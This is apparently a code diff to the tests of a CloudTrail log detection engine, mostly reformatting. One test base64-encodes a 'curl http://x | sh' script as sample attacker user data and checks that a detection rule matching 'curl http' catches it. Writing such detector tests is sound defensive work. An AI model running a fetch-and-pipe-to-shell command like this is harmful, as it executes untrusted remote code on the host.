@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import json
 import textwrap
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -172,7 +171,10 @@ def test_base64_and_base64offset(tmp_path: Path) -> None:
     import base64
 
     text = base64.b64encode(b"#!/bin/bash\ncurl http://x | sh").decode()
-    recs = [record(requestParameters={"userData": text}), record(requestParameters={"userData": "x"})]
+    recs = [
+        record(requestParameters={"userData": text}),
+        record(requestParameters={"userData": "x"}),
+    ]
     det = "s: {requestParameters.userData|base64offset|contains: 'curl http'}\ncondition: s"
     assert hits(tmp_path, det, *recs) == ["ev-0000"]
     plain = base64.b64encode(b"secret").decode()
@@ -260,7 +262,9 @@ def test_field_mapping_for_identity_paths(tmp_path: Path) -> None:
         ("userIdentity.type", "AssumedRole"),
         ("userIdentity.accessKeyId", "ASIAEXAMPLE000000001"),
     ]:
-        assert hits(tmp_path, f"s: {{{field}: '{value}'}}\ncondition: s", *recs) == ["ev-0000"], field
+        assert hits(tmp_path, f"s: {{{field}: '{value}'}}\ncondition: s", *recs) == ["ev-0000"], (
+            field
+        )
 
 
 # -- rules that cannot run are reported, the rest run -------------------------------------------
@@ -389,9 +393,18 @@ def test_temporal_and_ordered(tmp_path: Path, kind: str) -> None:
         TWO_BASES,
     )
     t = lambda m: (T0 + timedelta(minutes=m)).strftime("%Y-%m-%dT%H:%M:%SZ")  # noqa: E731
-    in_order = [record(eventTime=t(0), eventName="GetCallerIdentity"), record(eventTime=t(2), eventName="ListBuckets")]
-    reversed_ = [record(eventTime=t(0), eventName="ListBuckets"), record(eventTime=t(2), eventName="GetCallerIdentity")]
-    too_far = [record(eventTime=t(0), eventName="GetCallerIdentity"), record(eventTime=t(9), eventName="ListBuckets")]
+    in_order = [
+        record(eventTime=t(0), eventName="GetCallerIdentity"),
+        record(eventTime=t(2), eventName="ListBuckets"),
+    ]
+    reversed_ = [
+        record(eventTime=t(0), eventName="ListBuckets"),
+        record(eventTime=t(2), eventName="GetCallerIdentity"),
+    ]
+    too_far = [
+        record(eventTime=t(0), eventName="GetCallerIdentity"),
+        record(eventTime=t(9), eventName="ListBuckets"),
+    ]
     found = detect(events(*in_order), rs)
     assert len(found) == 1 and sorted(found.frame["event_ids"][0]) == ["ev-0000", "ev-0001"]
     assert len(detect(events(*reversed_), rs)) == (1 if kind == "temporal" else 0)
@@ -440,7 +453,11 @@ def test_findings_filters_and_summary(tmp_path: Path) -> None:
             eventName="DeleteTrail",
             eventSource="cloudtrail.amazonaws.com",
             eventTime=(T0 + timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M:%SZ"),
-            userIdentity={"type": "Root", "arn": "arn:aws:iam::111122223333:root", "accountId": "111122223333"},
+            userIdentity={
+                "type": "Root",
+                "arn": "arn:aws:iam::111122223333:root",
+                "accountId": "111122223333",
+            },
         ),
     ]
     found = fx.detect(fx.Trail(events(*recs)))
@@ -453,7 +470,10 @@ def test_findings_filters_and_summary(tmp_path: Path) -> None:
     assert alice.frame["techniques"][0].to_list() == ["T1562.008"]
     assert len(found.between(T0 + timedelta(hours=1), None)) == len(found) - 1
     s = found.summary()
-    assert s["level"][0] == "high" and set(s["title"]) >= {"CloudTrail trail deleted", "Root user activity"}
+    assert s["level"][0] == "high" and set(s["title"]) >= {
+        "CloudTrail trail deleted",
+        "Root user activity",
+    }
     assert len(found.at_least("high")) == 2
     with pytest.raises(ValueError, match="unknown level"):
         found.at_least("severe")
